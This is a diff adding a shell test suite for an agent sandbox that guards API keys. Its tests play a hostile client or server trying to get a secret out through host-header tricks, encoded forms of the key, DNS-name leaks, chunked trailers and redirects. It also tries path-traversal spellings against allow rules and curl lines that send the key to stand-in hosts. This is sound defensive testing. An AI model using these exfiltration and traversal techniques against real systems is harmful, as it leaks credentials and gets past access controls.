@@ -1,0 +1,340 @@
+# What a hostile client, or a hostile server, could try in order to get at a
+# value. Each attack stands beside what is allowed.
+UNJUDGED=1
+load helpers
+load internet
+load secrets
+
+setup_file()
+{
+	internet_start
+}
+
+teardown_file()
+{
+	internet_stop
+}
+
+# For the scripts: a TLS connection through a door, and requests in bytes.
+tls='
+import base64, os, ssl
+key = os.environ.get("OPENAI_API_KEY", "")
+context = ssl.create_default_context()
+def opened(host, name=None, port=443, way="connect"):
+    sock = connect_to(host, port)[1] if way == "connect" else socket.create_connection((host, port), TIMEOUT)
+    return context.wrap_socket(sock, server_hostname=name or host)
+def head(path="/x", host="api.openai.com", more="", method="GET"):
+    return "%s %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n%s\r\n" % (method, path, host, key, more)
+def status(sock, data):
+    return outcome(lambda: ask(data, sock)[0].status)
+'
+
+@test "attack: the request must name the host that the tunnel, the hello and the certificate name" {
+	box_python --secret OPENAI_API_KEY --allow keys.test <<-END
+	$tls
+	say("good", status(opened("api.openai.com"), head()))
+	say("port", status(opened("api.openai.com"), head(host="api.openai.com:443")))
+	say("host", status(opened("api.openai.com"), head(host="keys.test")))
+	say("other port", status(opened("api.openai.com"), head(host="api.openai.com:8443")))
+	say("absolute", status(opened("api.openai.com"), head("https://keys.test/x")))
+	say("two hosts", status(opened("api.openai.com"), head(more="Host: keys.test\r\n")))
+	say("no host", status(opened("api.openai.com"), "GET / HTTP/1.1\r\nAuthorization: Bearer %s\r\n\r\n" % key))
+	sock = opened("api.openai.com")
+	say("first", status(sock, head()))
+	say("kept, other", status(sock, head(host="keys.test")))
+	for name, way in (("keys.test", "connect"), ("keys.test", "direct")):
+	    try:
+	        say("hello", status(opened("api.openai.com", name, way=way), head()))
+	    except OSError as error:
+	        say("hello", "refused")
+	say("direct", status(opened("api.openai.com", way="direct"), head()))
+	END
+	[ "$status" -eq 0 ]
+	expect <<-END
+	good: 200
+	port: 200
+	host: 403
+	other port: 403
+	absolute: 400
+	two hosts: 400
+	no host: 400
+	first: 200
+	kept, other: 403
+	hello: refused
+	hello: refused
+	direct: 200
+	END
+	[ "$(origin_requests | wc -l)" -eq 4 ]
+	hidden
+}
+
+@test "attack: a placeholder on its way elsewhere is a tripwire" {
+	export OTHER_TOKEN=OtherRealValue0123456789abcdef
+	config '{ "secrets": { "OTHER_TOKEN": { "hosts": ["keys.test"] } } }'
+	box_python --secret OPENAI_API_KEY --allow api.openai.com --allow origin.test \
+		--allow '*.leak.test' <<-END
+	$tls
+	import urllib.parse
+	plain = "GET http://%s%s HTTP/1.1\r\nHost: %s\r\n%s\r\n"
+	def forms():
+	    yield "as it is", key
+	    yield "percent", "".join("%%%02x" % ord(c) for c in key)
+	    yield "base64", base64.b64encode(b"a:" + key.encode()).decode()
+	say("twin", status(to_proxy(), plain % ("origin.test", "/x", "origin.test", "")))
+	for name, form in forms():
+	    say(name, status(to_proxy(), plain % ("origin.test", "/x", "origin.test", "X: %s\r\n" % form)))
+	    say(name, status(to_proxy(), plain % ("origin.test", "/x?q=" + form, "origin.test", "")))
+	say("its own host, in clear", status(to_proxy(), plain % ("api.openai.com", "/x", "api.openai.com", "Authorization: Bearer %s\r\n" % key)))
+	say("directly", status(socket.create_connection(("origin.test", 80)), "GET / HTTP/1.1\r\nHost: origin.test\r\nX: %s\r\n\r\n" % key))
+	say("looked into, another's", status(opened("keys.test"), head(host="keys.test")))
+	say("its own", status(opened("keys.test"), head(host="keys.test").replace(key, os.environ["OTHER_TOKEN"])))
+	say("connect", ask("CONNECT origin.test:443 HTTP/1.1\r\nHost: origin.test:443\r\nX: %s\r\n\r\n" % key, method="CONNECT")[0].status)
+	name = key.replace("_", "-")
+	try:
+	    socket.getaddrinfo(name[:40] + "." + name[40:] + ".leak.test", 80)
+	    say("name", "resolved")
+	except OSError as error:
+	    say("name", word(error))
+	END
+	[ "$status" -eq 0 ]
+	expect <<-END
+	twin: 200
+	as it is: 403
+	as it is: 403
+	percent: 403
+	percent: 403
+	base64: 403
+	base64: 403
+	its own host, in clear: 403
+	directly: 403
+	looked into, another's: 403
+	its own: 200
+	connect: 403
+	name: no name
+	END
+	[ "$(origin_requests | wc -l)" -eq 2 ]
+	[ -z "$(dns_asked | grep leak.test)" ]
+	[ "$(audit 'select(.kind == "violation") | .rule' | sort -u)" = secret-tripwire ]
+	[[ "$stderr" == *"a placeholder of OPENAI_API_KEY was on its way there"* ]]
+	hidden
+	hidden "$OTHER_TOKEN"
+}
+
+@test "attack: a tripwire that stops the run" {
+	config '{ "secrets": { "OPENAI_API_KEY": { "onTripwire": "stop" } } }'
+	agentbox_split run --allow origin.test -- sh -c '
+		curl -sS -o /dev/null https://api.openai.com/x -H "Authorization: Bearer $OPENAI_API_KEY"
+		echo before
+		curl -sS -o /dev/null http://origin.test/ -H "X: $OPENAI_API_KEY"
+		sleep 50
+		echo after'
+	[ "$status" -eq 125 ]
+	[ "$output" = before ]
+	[[ "$stderr" == *OPENAI_API_KEY* ]]
+}
+
+@test "attack: a server that says the value back, whole, cut and encoded" {
+	box_python --secret OPENAI_API_KEY <<-END
+	$tls
+	for size in (1, 2, 5, 16, 45, 1000):
+	    answer = ask(head("/split/%d" % size), opened("api.openai.com"))[0]
+	    say(size, answer.body == b"token=" + key.encode() + b";\n" and answer.get("x-token") == key)
+	answer = ask(head("/encoded"), opened("api.openai.com"))[0]
+	print(answer.body.decode(), end="")
+	lines = answer.body.decode().split("\n")
+	say("plain", lines[0] == key and lines[1] == "x" + key + "y")
+	for i in range(3):
+	    say("base64", base64.b64decode(lines[2 + i]).decode("latin-1")[i + 3:-3] == key[3:-3])
+	say("gzip", status(opened("api.openai.com"), head("/gzip")))
+	answer = ask(head("/x", more="Range: bytes=0-3\r\nAccept-Encoding: gzip\r\n"), opened("api.openai.com"))[0]
+	say("range", b"range" in answer.body.lower() or b"gzip" in answer.body)
+	say("identity", b"identity" in answer.body)
+	END
+	[ "$status" -eq 0 ]
+	[ "$(grep -c ': True$' <<<"$output")" -eq 11 ]
+	[[ "$output" == *"gzip: 502"*"range: False"* ]]
+	# In no spelling that is found.
+	printf %s "$output" | python3 -c '
+import base64, sys
+key, text = sys.argv[1].encode(), sys.stdin.buffer.read()
+for i in range(3):
+    core = base64.b64encode(b"x" * i + key)[4:-8]
+    assert core not in text, core
+assert key not in text' "$KEY"
+	hidden
+}
+
+@test "attack: trailers carry nothing" {
+	box_python --secret OPENAI_API_KEY <<-END
+	$tls
+	body = head("/x", method="POST", more="Transfer-Encoding: chunked\r\nTrailer: X-T\r\n") + "2\r\nhi\r\n0\r\nX-T: %s\r\n\r\n" % key
+	answer = ask(body, opened("api.openai.com"))[0]
+	say("post", answer.status)
+	END
+	[ "$status" -eq 0 ]
+	[ "$output" = "post: 200" ]
+	[ "$(since_mark origin | grep -oF "$KEY" | wc -l)" -eq 1 ]
+}
+
+@test "attack: another host gets what the box has, and no more" {
+	box_python --secret OPENAI_API_KEY --allow keys.test --allow allowed.test <<-END
+	$tls
+	answer = ask(head("/redirect?https://keys.test/stolen"), opened("api.openai.com"))[0]
+	say("redirect", answer.get("location"))
+	loose = ssl.create_default_context()
+	loose.check_hostname, loose.verify_mode = False, ssl.CERT_NONE
+	sock = loose.wrap_socket(connect_to("keys.test", 443)[1], server_hostname="keys.test")
+	say("tunnel", status(sock, head("/stolen", host="keys.test")))
+	END
+	[ "$status" -eq 0 ]
+	expect <<-END
+	redirect: https://keys.test/stolen
+	tunnel: 200
+	END
+	# A tunnel that nobody looks into: a placeholder is all that it carries.
+	! since_mark origin | jq -r 'select(.head | contains("/stolen ")) | .head' | grep -qF "$KEY"
+	agentbox_split run --secret OPENAI_API_KEY --allow keys.test -- curl -sS -L --location-trusted \
+		-o /dev/null -H 'Authorization: Bearer x' 'https://api.openai.com/redirect?https://keys.test/'
+	# Its certificate is not ours, and the box does not know who made it.
+	[ "$status" -eq 60 ]
+}
+
+@test "attack: methods and paths, in every spelling" {
+	config '{ "network": { "allow": ["api.github.com", "origin.test", "other-keys.test"], "http": [
+		{ "host": "api.github.com", "methods": ["GET", "HEAD"], "paths": ["/repos/*"] },
+		{ "host": "api.github.com", "methods": ["POST"], "paths": ["/repos/me/*/issues"] },
+		{ "host": "origin.test", "paths": ["/open/*"] } ] } }'
+	box_python <<-END
+	$tls
+	def get(path, method="GET"):
+	    return status(opened("api.github.com"), head(path, "api.github.com", method=method))
+	for path in ("/repos/a/b", "/repos/a/../b", "/repos//a", "/%72epos/a", "/repos/a?x=/../../..",
+	             "/", "/user", "/repos/../user", "/repos/%2e%2e/user", "/repos/.%2E/user",
+	             "/repos/a%2f..%2f..%2fuser", "/repos/..%5cuser", "/repos/%00", "/repos/%", "/repos/%252e%252e/user",
+	             "//user", "/repos/..;/user", "/repos/./../../user"):
+	    say(path, get(path))
+	say("DELETE", get("/repos/a", "DELETE"))
+	say("POST", get("/repos/me/x/issues", "POST"))
+	say("POST", get("/repos/you/x/issues", "POST"))
+	say("clear", forward("origin.test", path="/open/1"))
+	say("clear", forward("origin.test", path="/open/../status/200"))
+	say("clear", forward("origin.test", path="/status/200"))
+	say("tunnel", status(connect_to("origin.test", 80)[1], "GET /status/200 HTTP/1.1\r\nHost: origin.test\r\n\r\n"))
+	say("tunnel", status(connect_to("origin.test", 80)[1], "GET /open/%32 HTTP/1.1\r\nHost: origin.test\r\n\r\n"))
+	say("other port", outcome(lambda: connect_to("origin.test", 22)[0].status))
+	END
+	[ "$status" -eq 0 ]
+	expect <<-END
+	/repos/a/b: 200
+	/repos/a/../b: 200
+	/repos//a: 200
+	/%72epos/a: 200
+	/repos/a?x=/../../..: 200
+	/: 403
+	/user: 403
+	/repos/../user: 403
+	/repos/%2e%2e/user: 403
+	/repos/.%2E/user: 403
+	/repos/a%2f..%2f..%2fuser: 400
+	/repos/..%5cuser: 400
+	/repos/%00: 400
+	/repos/%: 400
+	/repos/%252e%252e/user: 200
+	//user: 403
+	/repos/..;/user: 200
+	/repos/./../../user: 400
+	DELETE: 403
+	POST: 200
+	POST: 403
+	clear: 200
+	clear: 403
+	clear: 403
+	tunnel: 403
+	tunnel: 200
+	other port: 502
+	END
+	# Sent on in the form that was judged.
+	origin_requests | grep -qF 'GET /repos/b HTTP/1.1'
+	origin_requests | grep -qF 'GET /repos/a HTTP/1.1'
+	origin_requests | grep -qF 'GET /open/2 HTTP/1.1'
+	! origin_requests | grep -qF '..%2f'
+	[ "$(audit 'select(.rule == "network.http") | .path' | head -n 1)" = / ]
+}
+
+@test "attack: a host that is looked into is not reached by its address, nor in another tongue" {
+	box_python --secret OPENAI_API_KEY --allow 203.0.113.80 --allow allowed.test <<-END
+	$tls
+	say("by name", status(opened("api.openai.com"), head()))
+	try:
+	    say("by address", status(opened("203.0.113.80", "api.openai.com"), head()))
+	except OSError as error:
+	    say("by address", "refused")
+	say("other", direct("api.openai.com", 443, b"SSH-2.0-x\r\n"))
+	say("clear", status(connect_to("api.openai.com", 443)[1], "GET / HTTP/1.1\r\nHost: api.openai.com\r\n\r\n"))
+	END
+	[ "$status" -eq 0 ]
+	expect <<-END
+	by name: 200
+	by address: refused
+	other: reset
+	clear: 502
+	END
+	agentbox_split run --secret OPENAI_API_KEY --allow allowed.test -- sh -c '
+		curl -sS --http2-prior-knowledge https://api.openai.com/ -o /dev/null; echo $?
+		curl -sS -k --http2 https://allowed.test/'
+	[ "$(head -n 1 <<<"$output")" -ne 0 ]
+	[ "$(tail -n 1 <<<"$output")" = "hello allowed.test https HTTP/2.0" ]
+	[[ "$stderr" == *"takes HTTP/1.1"* ]]
+}
+
+@test "attack: a server whose certificate is not good gets nothing" {
+	config '{ "secrets": { "OPENAI_API_KEY": {
+		"hosts": ["expired.test", "wrong.test", "stranger.test", "keys.test"] } } }'
+	agentbox_split run -- sh -c '
+		for host in expired wrong stranger keys; do
+			curl -sS https://$host.test/x -H "Authorization: Bearer $OPENAI_API_KEY" \
+				-w "\n%{http_code}\n" | grep -v sha256
+		done'
+	[ "$status" -eq 0 ]
+	[ "$(grep -c '^502$' <<<"$output")" -eq 3 ]
+	[ "$(tail -n 1 <<<"$output")" = 200 ]
+	[[ "$output" == *"expired.test:443: its certificate has expired"* ]]
+	[[ "$output" == *"wrong.test:443: its certificate is "*"not "*"wrong.test"* ]]
+	[[ "$output" == *"stranger.test:443: "*"unknown"* ]]
+	[ "$(origin_requests | wc -l)" -eq 1 ]
+}
+
+@test "attack: the authority is good for its own hosts only" {
+	agentbox_split run --secret OPENAI_API_KEY -- sh -c '
+		openssl x509 -in "$NODE_EXTRA_CA_CERTS" -noout -ext nameConstraints,basicConstraints
+		ls -l /proc/self/fd | grep -c -i key; ls "$(dirname "$NODE_EXTRA_CA_CERTS")"
+		echo x >"$NODE_EXTRA_CA_CERTS"'
+	[[ "$output" == *"Permitted:"*"DNS:api.openai.com"*"CA:TRUE, pathlen:0"* ]]
+	[[ "$output" != *.key* ]]
+	[[ "$stderr" == *"Read-only"* || "$stderr" == *"ermission denied"* ]]
+}
+
+@test "attack: a refused key is read again" {
+	config '{ "secrets": { "OPENAI_API_KEY": { "from": "command",
+		"command": ["sh", "-c", "cat \"$HOME/key\""] } } }'
+	echo "$KEY" >"$HOME/key"
+	box_start run -- sh -c '
+		until [ -e go ]; do sleep 0.02; done
+		for i in $(seq 200); do
+			code=$(curl -sS -o /dev/null -w "%{http_code}" https://api.openai.com/only/sk-proj-NewValue \
+				-H "Authorization: Bearer $OPENAI_API_KEY")
+			echo $code
+			[ $code = 401 ] || break
+			sleep 0.05
+		done'
+	wait_for 20 grep -q . "$AGENTBOX_STATE"/runs/*/audit.jsonl
+	echo sk-proj-NewValue >"$HOME/key"
+	touch go
+	box_end
+	[ "$status" -eq 0 ]
+	[ "$(head -n 1 "$TEST_DIR/box.out")" = 401 ]
+	[ "$(tail -n 1 "$TEST_DIR/box.out")" = 200 ]
+	origin_saw "Bearer $KEY"
+	origin_saw "Bearer sk-proj-NewValue"
+	! grep -rqF -e sk-proj-NewValue -e "$KEY" "$AGENTBOX_STATE"
+}
